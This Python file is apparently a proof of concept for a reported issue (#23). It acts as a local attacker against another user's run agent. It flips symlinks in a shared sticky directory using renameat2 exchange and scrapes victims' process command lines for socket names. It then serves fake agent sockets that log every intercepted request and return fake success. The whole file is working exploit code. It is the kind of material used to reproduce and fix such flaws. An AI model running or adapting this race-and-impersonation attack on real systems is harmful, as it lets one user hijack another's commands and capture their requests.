"""Another local user who tries to take over a victim's run agent (issue #23), standard library only.

Run as the attacker: python3 fake_agent_attacker.py RACE_DIR LINK=VICTIM_FOLDER...

In RACE_DIR (world-writable and sticky, as /tmp) each LINK is a symlink the attacker flips, again
and again, between a 0700 folder of the victim's and the attacker's own folder (RACE_DIR/att,
and RACE_DIR/att/msc). It learns the names of the victim's agent sockets from files the victim
writes into its folder and from the victim's processes' command lines, and serves a fake agent
under each name: it records every request in RACE_DIR/att/served.jsonl and answers with fake
output and exit 0, so the victim's code never runs. Prints "ready" once the links exist.
"""

from __future__ import annotations

import ctypes
import json
import os
import re
import socket
import struct
import sys
import threading
import time

HEADER = struct.Struct(">cI")
KEY = re.compile(rb"[0-9a-f]{24}")


def frame(kind: bytes, payload: bytes = b"") -> bytes:
    return HEADER.pack(kind, len(payload)) + payload


def read_exactly(conn: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        chunk = conn.recv(size - len(data))
        if not chunk:
            raise EOFError
        data += chunk
    return data


class FakeAgents:
    def __init__(self, race: str):
        self.mine = os.path.join(race, "att")
        self.folders = [self.mine, os.path.join(self.mine, "msc")]
        for folder in self.folders:
            os.mkdir(folder, 0o700)
        self.served = os.path.join(self.mine, "served.jsonl")
        self.bound: dict[str, int] = {}  # socket path -> inode of the attacker's socket there
        self.writing = threading.Lock()

    def answer(self, conn: socket.socket, path: str) -> None:
        try:
            kind, length = HEADER.unpack(read_exactly(conn, HEADER.size))
            request = read_exactly(conn, length).decode("utf-8", "replace")
            with self.writing, open(self.served, "a") as log:
                log.write(json.dumps({"socket": path, "kind": kind.decode(), "request": request}) + "\n")
            conn.sendall(frame(b"A") + frame(b"O", b"FAKE\n") + frame(b"X", b'{"exit_code": 0}'))
        except (OSError, EOFError, struct.error):
            pass
        finally:
            conn.close()

    def serve(self, path: str) -> None:
        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            try:
                os.unlink(path)  # a socket the victim's own agent bound in the attacker's folder
            except FileNotFoundError:
                pass
            listener.bind(path)
            listener.listen(64)
            self.bound[path] = os.lstat(path).st_ino
        except OSError:
            listener.close()
            return
        threading.Thread(target=self._accept, args=(listener, path), daemon=True).start()

    def _accept(self, listener: socket.socket, path: str) -> None:
        while True:
            conn, _ = listener.accept()
            threading.Thread(target=self.answer, args=(conn, path), daemon=True).start()

    def learn(self) -> set[bytes]:
        """Socket names: from the victim's files in the attacker's folders, and from command lines."""
        keys: set[bytes] = set()
        for folder in self.folders:
            for name in os.listdir(folder):
                keys.update(KEY.findall(name.encode()))
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    line = f.read()
            except OSError:
                continue
            if b"msc_tui" in line:
                keys.update(KEY.findall(line))
        return keys

    def keep_serving(self) -> None:
        while True:
            for key in self.learn():
                for folder in self.folders:
                    path = os.path.join(folder, key.decode() + ".sock")
                    try:
                        ours = os.lstat(path).st_ino == self.bound.get(path)
                    except FileNotFoundError:
                        ours = False
                    if not ours:
                        self.serve(path)
            time.sleep(0.01)


def flip(link: str, mine: str) -> None:
    """In a process of its own, as fast as it goes (one renameat2(RENAME_EXCHANGE) per flip): the
    victim's window between its check and its use is a few microseconds."""
    other = f"{link}.other"
    os.symlink(mine, other)
    libc = ctypes.CDLL(None, use_errno=True)
    at_fdcwd, rename_exchange = -100, 2
    names = (os.fsencode(link), os.fsencode(other))
    while True:
        libc.renameat2(at_fdcwd, names[0], at_fdcwd, names[1], rename_exchange)
        time.sleep(0)  # (lookups racing a rename retry until it is done: let them finish between flips)


def main() -> None:
    race = sys.argv[1]
    links = dict(arg.split("=", 1) for arg in sys.argv[2:])
    agents = FakeAgents(race)
    for link, victims in links.items():
        os.symlink(victims, link)
        if os.fork() == 0:
            flip(link, agents.mine)
    print("ready", flush=True)
    agents.keep_serving()


if __name__ == "__main__":
    main()
